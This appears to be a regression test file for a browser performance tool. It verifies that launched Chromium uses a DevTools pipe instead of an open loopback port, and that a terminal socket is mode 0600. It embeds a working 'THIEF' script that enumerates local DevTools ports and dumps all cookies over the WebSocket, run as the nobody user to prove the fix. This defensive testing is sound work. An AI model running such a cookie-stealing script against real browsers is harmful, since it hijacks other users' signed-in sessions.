/**
 * Issue 57, finding 5: a browser perf launches for itself is driven over `--remote-debugging-pipe`, so no
 * other local user can attach to it. Before, it listened on a loopback port without authentication, and a
 * script running as uid 65534 read a `perf run`'s signed-in session cookie there with Storage.getCookies.
 * Checked on the real thing: the Chromium processes below `perf run` (signed in with setupOnce), `--against`,
 * `perf leaks`, a run over chromedriver and the MCP server's perf_run have the pipe flag, no port flag and no listening TCP socket;
 * the same thief script, as uid 65534, finds a canary cookie in a browser with a port (so it works here) and
 * not the run's session; the run measures every repeat signed in; a browser that dies at start is a launch
 * error naming its last output; a SIGKILLed run leaves no browser behind. Same family: a terminal session's step
 * socket is 0600 whatever the umask, so uid 65534 cannot connect to it.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import type { RunFile } from '../src/perf/run-file.js';
import { launchChrome } from '../src/drivers/cdp/chrome.js';
import { Browser } from '../src/drivers/cdp/browser.js';
import { childOutput, perfCli, processesBelow, ROOT } from './helpers.js';
import { stdioServer } from './mcp-client.js';
import { findServerBinary } from '../src/drivers/webdriver/server.js';
import { startSignInApp, type SignInApp } from './fixtures/signin/app.js';

const PASSWORD = 'pipe-horse-battery-5521';
const work = mkdtempSync(join(tmpdir(), 'rehearse-pipe-'));
let app: SignInApp;

before(async () => {
  app = await startSignInApp({ password: PASSWORD, loginDelayMs: 0 });
});
after(async () => {
  await app.close();
  rmSync(work, { recursive: true, force: true });
});

/** A scenario that signs in once (setupOnce) and measures a click on the signed-in page. */
function signedInScenario(name: string): string {
  const file = join(work, `${name}.yaml`);
  writeFileSync(
    file,
    `name: ${name}
app: { url: ${app.url}, path: /app }
setupOnce:
  - fill: { target: { label: User }, text: alice }
  - fill: { target: { label: Password }, text: "${PASSWORD}" }
  - tap: { target: { role: button, name: Sign in } }
  - wait_for: "Signed in as alice"
steps:
  - expect: { target: { testId: who }, text: "Signed in as alice" }
  - tap: { target: { role: button, name: Load items } }
  - expect: { target: { role: listitem }, count: 300 }
`,
  );
  return file;
}

/** TCP ports in the LISTEN state, by socket inode (this network namespace, IPv4 and IPv6). */
function listeningSockets(): Map<string, number> {
  const byInode = new Map<string, number>();
  for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
    for (const line of readFileSync(table, 'utf8').split('\n').slice(1)) {
      const c = line.trim().split(/\s+/);
      // st 0A is TCP_LISTEN; column 9 is the socket's inode.
      if (c[3] === '0A' && c[9]) byInode.set(c[9], parseInt(c[1]!.split(':')[1]!, 16));
    }
  }
  return byInode;
}

/** The TCP ports a process and every process below it listen on. */
function portsListenedBy(pid: number): number[] {
  const listening = listeningSockets();
  const ports = new Set<number>();
  for (const p of [pid, ...processesBelow({}, pid)]) {
    let fds: string[] = [];
    try {
      fds = readdirSync(`/proc/${p}/fd`);
    } catch {
      continue;
    }
    for (const fd of fds) {
      let link = '';
      try {
        link = readlinkSync(`/proc/${p}/fd/${fd}`);
      } catch {
        continue;
      }
      const inode = /^socket:\[(\d+)\]$/.exec(link)?.[1];
      const port = inode === undefined ? undefined : listening.get(inode);
      if (port !== undefined) ports.add(port);
    }
  }
  return [...ports];
}

/** A process's arguments. Split at spaces too: Chromium's zygote rewrites its title as one string of them. */
function commandLine(pid: number): string[] {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').split(/[\0 ]/).filter(Boolean);
  } catch {
    return [];
  }
}

/** Whether `pid` runs (a zombie waiting for its reaper does not). */
function running(pid: number): boolean {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    return stat.slice(stat.lastIndexOf(')') + 2, stat.lastIndexOf(')') + 3) !== 'Z';
  } catch {
    return false;
  }
}

/** Chromium browser processes (not its renderers, GPU or utility processes) below this test process. */
function browsersBelow(ancestor = process.pid): number[] {
  return processesBelow({ cmdline: '--user-data-dir=' }, ancestor).filter((pid) => {
    const argv = commandLine(pid);
    return argv.length > 0 && !argv.some((a) => a.startsWith('--type='));
  });
}

interface SeenBrowser {
  argv: string[];
  /** Every TCP port it (or a process below it) listened on while watched. */
  ports: Set<number>;
}

/**
 * Every browser process below this test process while `during` runs (polled every 100 ms: a browser lives
 * for seconds), with its command line and the ports it listened on.
 */
async function browsersDuring<T>(during: Promise<T>): Promise<{ value: T; seen: Map<number, SeenBrowser> }> {
  const seen = new Map<number, SeenBrowser>();
  const look = (): void => {
    for (const pid of browsersBelow()) {
      const argv = commandLine(pid);
      // A process the browser forked shows the browser's command line until it has exec'd its own (a
      // renderer, its crash handler); an exited one shows none.
      if (!argv.some((a) => a.startsWith('--user-data-dir=')) || argv.some((a) => a.startsWith('--type='))) {
        seen.delete(pid);
        continue;
      }
      const b = seen.get(pid) ?? { argv, ports: new Set<number>() };
      seen.set(pid, b);
      for (const port of portsListenedBy(pid)) b.ports.add(port);
    }
  };
  const timer = setInterval(look, 100);
  try {
    return { value: await during, seen };
  } finally {
    clearInterval(timer);
  }
}

/** Each browser seen was driven over the pipe and listened on no port. */
function assertAllOnPipe(seen: Map<number, SeenBrowser>, what: string): void {
  assert.ok(seen.size > 0, `${what}: no browser was seen`);
  for (const [pid, b] of seen) {
    assert.ok(b.argv.includes('--remote-debugging-pipe'), `${what}: browser ${pid} without the pipe: ${b.argv.join(' ')}`);
    assert.ok(!b.argv.some((a) => a.startsWith('--remote-debugging-port')), `${what}: browser ${pid} with a port flag`);
    assert.deepEqual([...b.ports], [], `${what}: browser ${pid} listens on TCP`);
  }
}

/**
 * What another local user can take: every loopback listener that answers /json/version is connected to over
 * its WebSocket and asked for the cookies of every browser context. No dependency (Node's WebSocket), so
 * it runs as any user from any folder.
 */
const THIEF = `
import { readFileSync } from 'node:fs';
const ports = new Set();
for (const f of ['/proc/net/tcp', '/proc/net/tcp6']) for (const line of readFileSync(f, 'utf8').split('\\n').slice(1)) {
  const c = line.trim().split(/\\s+/);
  if (c[3] === '0A') ports.add(parseInt(c[1].split(':')[1], 16));
}
const steal = async (port) => {
  const v = await (await fetch('http://127.0.0.1:' + port + '/json/version', { signal: AbortSignal.timeout(3000) })).json();
  const ws = new WebSocket(v.webSocketDebuggerUrl);
  await new Promise((r, j) => { ws.onopen = r; ws.onerror = j; });
  let id = 0; const waiting = new Map();
  ws.onmessage = (e) => { const m = JSON.parse(e.data); waiting.get(m.id)?.(m); };
  const send = (method, params = {}) => new Promise((r, j) => {
    waiting.set(++id, r); ws.send(JSON.stringify({ id, method, params })); setTimeout(() => j(new Error(method)), 5000);
  });
  const contexts = (await send('Target.getBrowserContexts')).result.browserContextIds;
  const cookies = [];
  for (const browserContextId of [undefined, ...contexts]) {
    const r = await send('Storage.getCookies', browserContextId ? { browserContextId } : {});
    for (const c of r.result?.cookies ?? []) cookies.push(c.name + '=' + c.value);
  }
  ws.close();
  return cookies;
};
const found = (await Promise.all([...ports].map((p) => steal(p).catch(() => [])))).flat();
console.log(JSON.stringify({ uid: process.getuid(), cookies: found }));
`;

/** Why the thief cannot run as another user here, or undefined when it can (root, with setpriv). */
function noOtherUser(): string | undefined {
  if (process.getuid?.() !== 0) return 'not root: cannot run a script as another user';
  if (spawnSync('setpriv', ['--version']).status !== 0) return 'no setpriv';
  return undefined;
}

/** The thief's haul, run as uid 65534 (nobody). */
async function stealAsNobody(): Promise<{ uid: number; cookies: string[] }> {
  const r = await childOutput(
    'setpriv',
    ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, '--experimental-websocket', '--input-type=module', '-e', THIEF],
    { cwd: '/', timeoutMs: 60_000, what: 'the thief script as uid 65534' },
  );
  assert.equal(r.code, 0, r.stderr);
  return JSON.parse(r.stdout.trim().split('\n').pop()!) as { uid: number; cookies: string[] };
}

/** `perf ARGS` in the work folder, resolved once `until` shows on its stderr; the run goes on. */
function perfUntil(args: string[], until: RegExp): { reached: Promise<void>; done: Promise<{ code: number | null; stderr: string }> } {
  const child = spawn(process.execPath, [join(ROOT, 'bin/perf'), ...args], { cwd: work, stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  let reach: () => void = () => undefined;
  const reached = new Promise<void>((r) => (reach = r));
  child.stderr.on('data', (d: Buffer) => {
    stderr += d.toString();
    if (until.test(stderr)) reach();
  });
  const done = new Promise<{ code: number | null; stderr: string }>((r) => child.once('close', (code) => r({ code, stderr })));
  void done.then(() => reach());
  return { reached, done };
}

test(
  'perf run signed in: its browser is on the pipe with no port, uid 65534 reads no session cookie, every repeat is measured',
  { timeout: 300_000 },
  async (t) => {
    const repeats = 12;
    const signInsBefore = app.signIns();
    const run = perfUntil(
      ['run', signedInScenario('pipe-run'), '--repeat', String(repeats), '--out', 'out-run'],
      /repeat 3\/\d+ [a-z]+: measured/,
    );
    // A browser with a port, as `perf start` launches one, holding a canary cookie: the thief must find it,
    // so its finding nothing in the run's browser means something.
    const control = await launchChrome({ devtools: 'port' });
    try {
      const browser = await Browser.launched(control);
      const canary = `canary=${randomBytes(8).toString('hex')}`;
      const [name, value] = canary.split('=') as [string, string];
      await browser.conn.send('Storage.setCookies', { cookies: [{ name, value, domain: '127.0.0.1', path: '/' }] });
      const { value: stolen, seen } = await browsersDuring(
        (async () => {
          await run.reached;
          // Polled a few times meanwhile; the thief runs while the run's browser is signed in.
          await new Promise((r) => setTimeout(r, 300));
          const why = noOtherUser();
          if (why) t.diagnostic(`the thief part is skipped: ${why}`);
          return why ? undefined : await stealAsNobody();
        })(),
      );
      if (stolen) {
        assert.equal(stolen.uid, 65534);
        assert.ok(stolen.cookies.includes(canary), `the thief works here: ${JSON.stringify(stolen.cookies)}`);
        assert.equal(app.signIns() - signInsBefore, 1, 'signed in before the thief looked');
        for (const sid of app.sessionIds()) assert.ok(!stolen.cookies.includes(`sid=${sid}`), 'the thief read the run session');
      }
      assert.deepEqual(seen.get(control.pid)?.ports.has(control.devtools.port), true, 'the port of a listening browser is seen');
      seen.delete(control.pid);
      assertAllOnPipe(seen, 'perf run');
      await browser.disconnect();
    } finally {
      await control.close();
    }
    const { code, stderr } = await run.done;
    assert.equal(code, 0, stderr);
    const file = JSON.parse(readFileSync(join(work, 'out-run', 'pipe-run-run.json'), 'utf8')) as RunFile;
    assert.equal(file.summary.failed, 0, stderr);
    assert.equal(file.summary.measured, repeats);
    assert.equal(file.summary.metrics['steps.2-expect.ms']?.n, repeats, 'the signed-in step is measured in every repeat');
  },
);

test(
  'perf run --against, perf leaks, over chromedriver and the MCP server perf_run: every browser is on the pipe, none listens',
  { timeout: 400_000 },
  async () => {
    const file = signedInScenario('pipe-more');
    const against = await browsersDuring(perfCli(work, ['run', file, '--against', file, '--repeat', '2', '--out', 'out-against'], 240_000));
    assert.equal(against.value.code, 0, against.value.stderr);
    assert.ok(against.seen.size >= 1);
    assertAllOnPipe(against.seen, 'perf run --against');

    const leaks = await browsersDuring(perfCli(work, ['leaks', file, '--iterations', '2', '--out', 'out-leaks'], 240_000));
    assert.ok(leaks.value.code === 0 || leaks.value.code === 1, leaks.value.stderr);
    assertAllOnPipe(leaks.seen, 'perf leaks');

    if (findServerBinary('chromedriver')) {
      // chromedriver launches this one: asked for the pipe, it opens no DevTools port either.
      const wd = join(work, 'pipe-wd.yaml');
      writeFileSync(wd, readFileSync(file, 'utf8').replace('name: pipe-more', 'name: pipe-wd\nbrowser: { driver: webdriver }'));
      const overWebDriver = await browsersDuring(perfCli(work, ['run', wd, '--repeat', '2', '--out', 'out-wd'], 240_000));
      assert.equal(overWebDriver.value.code, 0, overWebDriver.value.stderr);
      assertAllOnPipe(overWebDriver.seen, 'perf run over chromedriver');
    }

    const mcp = await stdioServer(work, { name: 'pipe', callTimeoutMs: 240_000 });
    try {
      const { value: reply, seen } = await browsersDuring(mcp.call('perf_run', { scenario: 'pipe-more.yaml', repeat: 2, out: 'out-mcp' }));
      assert.equal(reply.isError, false, reply.text);
      assertAllOnPipe(seen, 'MCP perf_run');
    } finally {
      await mcp.close();
    }
  },
);

test('a browser that dies at start over the pipe is a launch error (exit 3) with its last output', { timeout: 120_000 }, async () => {
  const fake = join(work, 'dying-chrome.sh');
  writeFileSync(fake, '#!/bin/sh\necho "fake-chrome: cannot open display" >&2\nexit 1\n');
  chmodSync(fake, 0o755);
  const r = await perfCli(work, ['run', signedInScenario('pipe-dies'), '--repeat', '1', '--out', 'out-dies'], 60_000, {
    CHROME_PATH: fake,
  });
  assert.equal(r.code, 3, r.stderr);
  assert.match(r.stderr, /did not answer on its DevTools pipe/);
  assert.match(r.stderr, /fake-chrome: cannot open display/);
});

test('perf run killed outright (SIGKILL): its browser on the pipe does not outlive it', { timeout: 120_000 }, async () => {
  const child = spawn(
    process.execPath,
    [join(ROOT, 'bin/perf'), 'run', signedInScenario('pipe-killed'), '--repeat', '30', '--out', 'out-killed'],
    {
      cwd: work,
      stdio: ['ignore', 'ignore', 'pipe'],
    },
  );
  let stderr = '';
  await new Promise<void>((resolve) =>
    child.stderr.on('data', (d: Buffer) => {
      stderr += d.toString();
      if (/repeat 2\/\d+ [a-z]+: measured/.test(stderr)) resolve();
    }),
  );
  const browsers = browsersBelow(child.pid!);
  assert.ok(browsers.length >= 1, 'a browser below perf run');
  child.kill('SIGKILL');
  // The watchdog kills the browser's group, and the browser quits by itself when its pipe closes: either way, soon.
  const deadline = Date.now() + 30_000;
  const alive = (): number[] => browsers.filter(running);
  while (alive().length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
  assert.deepEqual(alive(), [], 'no browser outlives a killed run');
});

test(
  'a terminal session step socket is 0600 even under umask 0: another local user cannot send it keystrokes',
  { timeout: 120_000 },
  async () => {
    const dir = join(work, 'term');
    mkdirSync(dir);
    // The daemon inherits the umask of the `perf start` that spawned it.
    const start = await childOutput(
      'sh',
      ['-c', `umask 0 && exec "${process.execPath}" "${join(ROOT, 'bin/perf')}" start --terminal cat --json --state-dir "${dir}/.perf"`],
      { cwd: dir, timeoutMs: 60_000, what: 'perf start --terminal cat' },
    );
    try {
      assert.equal(start.code, 0, start.stderr);
      const socket = (JSON.parse(start.stdout) as { terminal: { socket: string } }).terminal.socket;
      assert.equal(statSync(socket).mode & 0o777, 0o600);
      if (!noOtherUser()) {
        const knock = await childOutput(
          'setpriv',
          [
            '--reuid=65534',
            '--regid=65534',
            '--clear-groups',
            process.execPath,
            '-e',
            `require('net').connect(${JSON.stringify(socket)})
          .on('connect', () => { console.log('connected'); process.exit(0); }).on('error', (e) => { console.log(e.code); process.exit(0); })`,
          ],
          { cwd: '/', timeoutMs: 30_000, what: 'a connection to the step socket as uid 65534' },
        );
        assert.equal(knock.stdout.trim(), 'EACCES');
      }
    } finally {
      await perfCli(dir, ['stop', '--state-dir', join(dir, '.perf')], 60_000);
    }
  },
);
